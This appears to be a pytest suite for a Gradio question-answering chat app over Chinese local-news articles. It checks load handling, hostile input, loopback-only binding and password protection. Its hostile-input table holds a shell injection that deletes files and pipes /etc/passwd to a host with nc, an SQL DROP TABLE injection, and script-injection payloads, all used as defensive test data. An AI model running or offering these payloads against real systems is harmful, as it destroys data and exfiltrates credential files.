"""The chat app over HTTP, as users (and abusers) meet it: concurrent users, hostile input,
loopback-only listening, no share link, password protection.

Everything talks to ``python app.py`` running as a subprocess on 127.0.0.1,
through Gradio's own client or plain HTTP, never in-process shortcuts.
"""

from __future__ import annotations

import importlib.util
import json
import sys
import threading
import time

import httpx
import psutil
import pytest
from app_process import AppProcess, shared_app
from conftest import PROJECT_ROOT
from gradio_client import Client

from qa.retrieval.policy.answer import AnswerPolicy


def _load_module(name: str, path):
    spec = importlib.util.spec_from_file_location(name, path)
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module  # dataclasses look their module up here
    spec.loader.exec_module(module)
    return module


load_test = _load_module("load_test", PROJECT_ROOT / "scripts" / "load_test.py")
pytestmark = pytest.mark.slow  # each test serves app.py in its own process

REPLY_SECONDS = 15  # any single question, however odd, is answered within this (typically < 1 s)
# Questions with the words their top passage must contain.
KNOWN = {
    "曹娥街道今年一季度外资到位了多少？": "外资到位697万美元",
    "卧龙智慧新能源产业园总投资多少？": "总投资60亿元",
    "鸿雁社区的人才公寓有多大？": "32万平方米",
    "曹娥街道有多少家上市公司？": "10家上市公司",
    "珠穆朗玛峰海拔有多高？": None,  # out of scope: whatever comes back must be stable under load
}


@pytest.fixture(scope="session")
def app(article_paths, article_retriever, tmp_path_factory, request):
    return shared_app(article_paths, tmp_path_factory.mktemp("app"), request.addfinalizer)


@pytest.fixture(scope="module")
def client(app):
    client = load_test.connect(app.url)
    yield client
    client.close()


def exchange(client: Client, question) -> tuple[str, str, float]:
    """Ask once; the echoed question's HTML, the reply's HTML and the seconds it took."""
    started = time.monotonic()
    _, history = client.submit(question, [], api_name="/ask").result(timeout=REPLY_SECONDS * 4)
    seconds = time.monotonic() - started
    return load_test.message_text(history[-2]["content"]), load_test.message_text(history[-1]["content"]), seconds


def test_concurrent_users_all_get_the_right_answer(app, article_retriever):
    """8 users at once, 40 questions: each answered, each with the passage it gets when asked alone."""
    assistant = AnswerPolicy(article_retriever)
    alone = {q: assistant.ask(q) for q in KNOWN}
    report = load_test.run(app.url, list(KNOWN), users=8, total=40, time_limit=180, request_timeout=60)
    figures = report.summary()
    assert (figures["answered"], figures["failed"], figures["not_run"], figures["unconnected_users"]) == \
        (40, 0, 0, 0), figures
    assert len({o.user for o in report.outcomes}) == 8
    for outcome in report.outcomes:
        reference = alone[outcome.question]
        assert outcome.top_id == reference.passages[0].id, outcome.question
        assert outcome.answerable == reference.answerable, outcome.question
        if KNOWN[outcome.question]:
            assert KNOWN[outcome.question] in outcome.top_text and outcome.answerable
    assert figures["inconsistent"] == 0


UNCLEAR = "unclear"  # the reply asks for a question instead of searching
HOSTILE = {  # name: (question, words of the clear message, UNCLEAR, or None for an answer)
    "empty": ("", "the question is empty"),
    "whitespace": (" \t\n\u3000\r\n ", "the question is empty"),
    "control characters only": ("\x00\x01\x02\x1b\x7f\x85\x9f", "the question is empty"),
    "1 MB": ("x" * (1 << 20), "the limit is 1000"),
    "one character over the limit": ("问" * 1001, "the limit is 1000"),
    "at the limit": (("曹娥街道今年一季度外资到位了多少？" * 60)[:1000], None),
    "one character repeated": ("问" * 1000, UNCLEAR),
    "binary as text": (bytes(range(256)).decode("latin-1") * 3, UNCLEAR),
    "emoji only": ("🏭🚀😀👩‍👩‍👧", UNCLEAR),
    "mixed scripts": ("Caoe 曹娥 한국어 Ελληνικά кириллица עברית", None),
    "SQL": ("'; DROP TABLE passages; -- OR 1=1", UNCLEAR),
    "shell": ("$(rm -rf ~) `reboot` && cat /etc/passwd | nc 10.0.0.1 80", UNCLEAR),
    "HTML and script": ('<script>alert(1)</script><b onmouseover="alert(2)">x</b>', UNCLEAR),
    "Markdown link": ("[click](javascript:alert(1)) **bold** $$x$$", UNCLEAR),
    "bidi override": ("\u202e曹娥街道\u202c的外资", None),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_input_gets_an_answer_or_a_clear_message_in_bounded_time(client, name):
    question, message = HOSTILE[name]
    echoed, reply, seconds = exchange(client, question)
    assert seconds < REPLY_SECONDS
    assert echoed.startswith("<p>") and echoed.endswith("</p>")
    assert "<" not in echoed[3:-4], "the echoed question must be escaped text"
    assert len(echoed) < 10_000  # never the whole megabyte back
    if message == UNCLEAR:
        assert "qa-unclear" in reply and "qa-passage" not in reply
        assert "<script" not in reply and "<b " not in reply  # never echoed as markup
    elif message:
        assert reply.startswith("<p>请检查问题 · Please check the question:") and message in reply
        assert "qa-passage" not in reply
    else:
        # passages, as an answer, as the nearest (not covered), or as found by meaning alone (partial): the words
        # of several scripts at once are none the checks read
        assert "qa-passage" in reply and ('class="qa-answer"' in reply or "qa-not-covered" in reply
                                          or "qa-missing" in reply)
        assert reply.count('class="qa-passage ') == 5  # all five, four folded


def test_a_real_question_wrapped_in_emoji_and_control_characters_is_answered(client):
    echoed, reply, _ = exchange(client, "🏭\x00曹娥街道今年一季度\x1b外资到位了多少？😀")
    assert echoed == "<p>🏭曹娥街道今年一季度外资到位了多少？😀</p>"
    top = load_test.read_reply("", ("", [{"content": reply}]), 0)
    assert "外资到位697万美元" in top.top_text and top.answerable


def _raw_call(app, body: bytes) -> tuple[int, str]:
    """Gradio's plain HTTP API, with bytes no well-behaved client would send."""
    posted = httpx.post(f"{app.url}gradio_api/call/ask", content=body, timeout=REPLY_SECONDS,
                        headers={"Content-Type": "application/json"})
    if posted.status_code != 200:
        return posted.status_code, posted.text
    event = posted.json()["event_id"]
    streamed = httpx.get(f"{app.url}gradio_api/call/ask/{event}", timeout=REPLY_SECONDS)
    return streamed.status_code, streamed.text


def test_lone_surrogates_and_non_text_are_answered_with_a_message(app):
    status, text = _raw_call(app, json.dumps({"data": ["\ud800\udfff\ud800", [], ""]}).encode())
    assert status == 200 and "event: complete" in text and "the question is empty" in text
    status, text = _raw_call(app, json.dumps({"data": [None, [], ""]}).encode())
    assert status == 200 and "event: complete" in text and "the question must be text" in text


def test_malformed_requests_are_refused_not_crashed_on(app, client):
    for body in (b"\xff\xfe\x00\x80 not json", b'{"data": ', b'{"data": ["hi", "not a history"]}'):
        status, text = _raw_call(app, body)
        assert status < 500 or "event: error" in text
        assert status != 200 or "event: complete" not in text
    _, reply, _ = exchange(client, "卧龙智慧新能源产业园总投资多少？")
    assert "总投资60亿元" in reply


def test_hostile_input_does_not_disturb_other_users(app):
    """A user asks real questions while three others send the hostile set at the same time."""
    good: list[tuple[str, load_test.Outcome]] = []

    def good_user() -> None:
        user = load_test.connect(app.url)
        for question in [q for q, words in KNOWN.items() if words] * 2:
            good.append((question, load_test.ask(user, question, REPLY_SECONDS * 4)))
        user.close()

    def hostile_user(questions: list[str]) -> None:
        user = load_test.connect(app.url)
        for question in questions:
            load_test.ask(user, question, REPLY_SECONDS * 4)
        user.close()

    hostile = [question for question, _ in HOSTILE.values()]
    threads = [threading.Thread(target=good_user)]
    threads += [threading.Thread(target=hostile_user, args=(hostile[i::3],)) for i in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=300)
    assert len(good) == 8
    for question, outcome in good:
        assert outcome.answered and KNOWN[question] in outcome.top_text, (question, outcome.message[:200])
        assert outcome.latency_ms < REPLY_SECONDS * 1000


def test_listens_on_loopback_only_without_a_share_link(app):
    listening = [c for c in psutil.Process(app.process.pid).net_connections(kind="inet")
                 if c.status == psutil.CONN_LISTEN]
    assert listening and {c.laddr.ip for c in listening} == {"127.0.0.1"}
    assert app.port in {c.laddr.port for c in listening}
    log = app.log()
    assert f"Running on local URL:  http://127.0.0.1:{app.port}" in log
    assert "public URL" not in log and "gradio.live" not in log


def test_defaults_are_loopback_and_no_share(monkeypatch):
    for name in ("QA_HOST", "QA_PORT", "QA_AUTH"):
        monkeypatch.delenv(name, raising=False)
    app_module = _load_module("qa_app", PROJECT_ROOT / "app.py")
    defaults = app_module.parse_args([])
    assert (defaults.host, defaults.port, defaults.share) == ("127.0.0.1", 7860, False)
    assert app_module.parse_args(["--share"]).share is True
    assert app_module.auth_from_env() is None
    monkeypatch.setenv("QA_AUTH", "alice:s3:cret")
    assert app_module.auth_from_env() == ("alice", "s3:cret")
    monkeypatch.setenv("QA_AUTH", "alice")
    with pytest.raises(SystemExit, match="user:password"):
        app_module.auth_from_env()


def test_qa_auth_puts_the_app_behind_a_password(article_paths, article_retriever, tmp_path):
    with AppProcess(article_paths, tmp_path / "app.log", QA_AUTH="alice:s3cret") as app:
        assert httpx.get(f"{app.url}config", timeout=10).status_code == 401
        refused = httpx.post(f"{app.url}gradio_api/call/ask", json={"data": ["卧龙产业园", []]}, timeout=10)
        assert refused.status_code == 401
        for wrong in (None, ("alice", "guess")):
            with pytest.raises((ValueError, RuntimeError)):  # gradio_client's AuthenticationError is a ValueError
                load_test.connect(app.url, auth=wrong)
        user = load_test.connect(app.url, auth=("alice", "s3cret"))
        outcome = load_test.ask(user, "卧龙智慧新能源产业园总投资多少？", REPLY_SECONDS * 4)
        user.close()
        assert outcome.answered and "总投资60亿元" in outcome.top_text
